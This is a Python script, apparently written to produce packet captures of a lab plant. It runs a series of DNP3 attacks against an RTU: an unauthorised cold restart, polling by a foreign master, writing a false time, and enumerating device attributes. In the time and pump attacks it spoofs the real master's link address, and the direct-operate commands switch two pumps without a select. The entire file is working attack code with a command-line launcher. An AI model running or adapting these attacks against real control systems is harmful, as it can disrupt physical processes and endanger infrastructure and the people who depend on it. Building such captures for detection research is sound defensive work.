"""DNP3 attacks on rtu-res, with a second OpenDNP3 master: its start-up sequence runs first, as in real tools."""

from __future__ import annotations

import sys
import time
from collections.abc import Callable

import opendnp3 as dnp3  # type: ignore[import-untyped]  # the extension has no stubs

from pcaps.plant import hosts, masters

START_SECONDS = 2.5
ANSWER_SECONDS = 2.0
POLL_SECONDS = 7.0
FOREIGN_MASTER = 3
WRONG_TIME_MILLISECONDS = 1_577_836_800_000
"""2020-01-01T00:00:00Z, years before the capture."""


def _connect(address: int) -> masters.Dnp3Master:
    station = masters.Dnp3Master(address)
    station.master.Enable()
    time.sleep(START_SECONDS)
    return station


def cold_restart() -> None:
    """Order a cold restart."""
    station = _connect(FOREIGN_MASTER)
    station.master.Restart(dnp3.RestartType.COLD, masters.pass_over)
    time.sleep(ANSWER_SECONDS)
    station.manager.Shutdown()


def poll() -> None:
    """Poll all events every second as a master nobody knows, until the real one takes the connection back."""
    station = masters.Dnp3Master(FOREIGN_MASTER)
    station.poll_events(1)
    station.master.Enable()
    time.sleep(POLL_SECONDS)
    station.manager.Shutdown()


def set_time() -> None:
    """Write a wrong time, with the link address of the real master."""
    station = _connect(hosts.DNP3_MASTER)
    stamp = b"\x32\x01\x07\x01" + WRONG_TIME_MILLISECONDS.to_bytes(6, "little")
    station.master.PerformFunction("time", dnp3.FunctionCode.WRITE, [dnp3.Header.Raw(stamp)])
    time.sleep(ANSWER_SECONDS)
    station.manager.Shutdown()


def direct_operate() -> None:
    """Switch two pumps without a select, with the link address of the real master."""
    station = _connect(hosts.DNP3_MASTER)
    for index in (0, 1):
        station.operate(index, close=False, direct=True)
        time.sleep(0.5)
    time.sleep(ANSWER_SECONDS)
    station.manager.Shutdown()


def identify() -> None:
    """Ask for all device attributes (group 0)."""
    station = _connect(FOREIGN_MASTER)
    station.master.ScanAllObjects(dnp3.GroupVariationID(0, 254), station.measurements)
    time.sleep(ANSWER_SECONDS)
    station.manager.Shutdown()


ACTIONS: dict[str, Callable[[], None]] = {
    action.__name__: action for action in (cold_restart, poll, set_time, direct_operate, identify)
}


if __name__ == "__main__":
    ACTIONS[sys.argv[1]]()
